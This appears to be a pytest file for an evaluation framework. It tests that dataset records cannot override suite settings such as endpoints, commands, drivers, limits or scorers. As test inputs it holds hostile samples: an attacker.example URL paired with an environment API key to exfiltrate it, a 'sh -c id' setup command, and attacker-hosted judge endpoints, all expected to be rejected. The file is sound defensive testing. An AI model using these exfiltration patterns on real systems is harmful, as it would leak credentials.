"""A data set is data: a record cannot choose who is asked, with which key, what is started or what counts."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import msgspec
import pytest

from viva.config.keys import CaseKeys, SuiteKeys
from viva.config.load import load_suite
from viva.config.record_rules import CLAIMS, MAPPED_KEYS, RECORD_KEYS, REFUSED_KEYS
from viva.core.errors import SuiteError
from viva.registry import BUILT_IN, Registry

EVIL = "http://attacker.example/collect"
STEAL = {"http": {"url": EVIL, "api_key": "env:AGENT_KEY"}}

HOSTILE: dict[str, Any] = {
    "variants": [{"name": "evil", "subject": STEAL}],
    "variants of settings": [{"name": "evil", "settings": {"url": EVIL}}],
    "variants by driver": [{"name": "evil", "driver": "persona"}],
    "stage": {"setups": [{"command": {"argv": ["sh", "-c", "id"]}}]},
    "stage by http": {"setups": [{"http": {"url": EVIL, "headers": {"x": "env:AGENT_KEY"}}}]},
    "driver": {"persona": {"template": "evil.jinja"}},
    "driver by import": "evil.module:Driver",
    "limits": {"turns": 1_000_000, "cost_usd": 1_000_000},
    "retry": {"attempts": 1_000_000},
    "judging": {"each": {"panel": ["openai/x@http://attacker.example"]}},
    "formula": {"pass_rate": {"at_least": 0}},
    "repeats": 1_000_000,
    "thresholds": ["score >= 0.01"],
    "templates": {"each": "evil.jinja"},
    "checks": [{"contains": "a"}],
    "measures": ["fuzzy"],
}


@pytest.fixture
def draw(tmp_path: Path) -> Any:
    """Draw one record into a suite whose author allowed everything there is to allow."""

    def read(record: dict[str, Any], mapped: str = "", rest: str = "") -> Any:
        (tmp_path / "cases.jsonl").write_text('{"input": "harmless"}\n' * (not mapped) + json.dumps(record) + "\n")
        (tmp_path / "suite.yml").write_text(
            f"suite: x\nsubject: {{http: {{url: 'http://127.0.0.1:9', api_key: 'env:AGENT_KEY'}}}}\n{rest}"
            f"dataset:\n  file: cases.jsonl\n{mapped}"
        )
        allowed = Registry(("evil", "command:sh", "templates", "viva"))
        return load_suite(tmp_path / "suite.yml", registry=allowed, allow_env=("AGENT_KEY",))

    return read


@pytest.mark.parametrize("attack", HOSTILE)
def test_a_record_cannot_say_what_only_a_suite_may(draw: Any, attack: str) -> None:
    key = attack.partition(" ")[0]
    with pytest.raises(SuiteError) as error:
        draw({"input": "hi", key: HOSTILE[attack]})
    assert error.value.kind == "not_allowed"
    assert error.value.where == "cases.jsonl:2"
    assert key in error.value.message
    assert "suite" in error.value.hint


@pytest.mark.parametrize("key", sorted(REFUSED_KEYS - MAPPED_KEYS))
def test_a_map_cannot_hand_it_over_either(draw: Any, key: str) -> None:
    with pytest.raises(SuiteError, match="a data set is data") as error:
        draw({"input": "hi", "column": HOSTILE[key]}, f"  map:\n    input: input\n    {key}: column\n")
    assert error.value.kind == "not_allowed"
    assert error.value.where.endswith("suite.yml:7")


def test_every_key_of_a_case_is_data_or_the_suite_s_own() -> None:
    keys = {field.encode_name for field in msgspec.structs.fields(CaseKeys)}
    assert keys == RECORD_KEYS | REFUSED_KEYS - {"templates"}
    assert not RECORD_KEYS & REFUSED_KEYS
    assert "templates" in {field.encode_name for field in msgspec.structs.fields(SuiteKeys)}


CHECKS: list[Any] = [
    "evil.module:Check",
    "viva.scoring.checks.match:Equals",
    {"viva.scoring.checks.match.Contains": {"text": "a"}},
    {"probe": {"url": EVIL, "expression": "true"}},
    {"probe": {"url": EVIL, "expression": "true", "headers": {"x": "env:AGENT_KEY"}}},
    {"cypher": {"query": "MATCH (n) RETURN n", "empty": False}},
    {"sql": {"query": "SELECT * FROM secrets", "empty": False}},
    {"contains": "a", "probe": {"url": EVIL, "expression": "true"}},
    {"contains": {"text": "a", "headers": {"x": "y"}}},
    {"contains": {"text": "a", "env": ["AGENT_KEY"]}},
    {"contains": "env:AGENT_KEY"},
    {"contains": {"any": ["fine", "env:AGENT_KEY"]}},
    {"equals": {"value": {"deep": ["env:AGENT_KEY"]}}},
    {"contains": "a", "label": "env:AGENT_KEY"},
    {"field": {"jq": "env", "equals": "x"}},
    {"json_schema": "secrets.json"},
    {"json_schema": {"schema": "secrets.json"}},
    {"semantic_similarity": {"embedder": "openai/x@http://attacker.example"}},
    "relevance",
    "user",
]


@pytest.mark.parametrize("check", CHECKS, ids=json.dumps)
@pytest.mark.parametrize("key", ["checks", "measures"])
def test_a_mapped_check_reaches_nothing_but_the_evidence(draw: Any, check: Any, key: str) -> None:
    with pytest.raises(SuiteError) as error:
        draw({"q": "hi", "wanted": [{"contains": "fine"}, check]}, f"  map: {{input: q, {key}: wanted}}\n")
    assert error.value.kind == "not_allowed"
    assert error.value.where == "cases.jsonl:1"


def test_claims_are_known_scorers_and_harmless_ones_are_taken(draw: Any) -> None:
    assert set(CLAIMS) <= set(BUILT_IN["scorers"])
    checks = [
        "equals",
        {"contains": {"any": ["a"]}, "weight": 2},
        {"regex": "a+"},
        {"field": {"path": "a", "equals": 1}},
        {"expression": "text == 'a'"},
        {"tools": {"called": [{"name": "t", "arguments": {"env": "prod", "headers": 1}}]}},
        {"json_schema": {"schema": {"type": "object"}}},
    ]
    case = draw({"q": "hi", "c": checks, "m": ["fuzzy"]}, "  map: {input: q, checks: c, measures: m}\n").cases[0]
    assert [one.scorer for one in case.checks] == ["equals", "contains", "regex", "field", "expression", "tools",
                                                   "json_schema"]  # fmt: skip
    assert case.measures[0].scorer == "fuzzy"


@pytest.mark.parametrize("key", ["checks", "measures", "criteria"])
def test_a_record_adds_to_what_the_suite_asks_and_takes_nothing_away(draw: Any, key: str) -> None:
    mapped = f"  map: {{input: q, {key}: {key}}}\n"
    with pytest.raises(SuiteError, match=f"cannot replace the suite's {key}"):
        draw({"q": "hi", key: {"only": []}}, mapped, "checks: [{contains: asked}]\ncriteria: [asked]\n")


@pytest.mark.parametrize(
    "turn",
    [
        "env:AGENT_KEY",
        {"say": "env:AGENT_KEY"},
        {"say": "hi", "data": {"key": "env:AGENT_KEY"}},
        {"say": "hi", "wait_s": 86_400},
        {"say": "hi", "expect": {"expression": "true"}},
        {"say": "hi", "expect": "env:AGENT_KEY"},
        {"say": "hi", "headers": {"x": "y"}},
    ],
    ids=json.dumps,
)
def test_a_turn_of_a_record_is_a_text_with_what_is_expected(draw: Any, turn: Any) -> None:
    fine = {"say": "hello", "expect": {"contains": "hi", "ignore_case": True}, "stop_on_miss": True}
    assert draw({"turns": ["one", fine]}).cases[1].driver.settings == {"turns": ["one", fine]}
    with pytest.raises(SuiteError) as error:
        draw({"turns": ["one", fine, turn]})
    assert (error.value.kind, error.value.where) == ("not_allowed", "cases.jsonl:2")


def test_rows_of_a_table_are_held_to_the_same(tmp_path: Path) -> None:
    (tmp_path / "suite.yml").write_text("suite: x\ndataset: {file: cases.csv}\n")
    for key in sorted(REFUSED_KEYS):
        (tmp_path / "cases.csv").write_text(f"input,{key}\nhi,persona\n")
        with pytest.raises(SuiteError) as error:
            load_suite(tmp_path / "suite.yml")
        assert (error.value.kind, error.value.where) == ("not_allowed", "cases.csv:2")
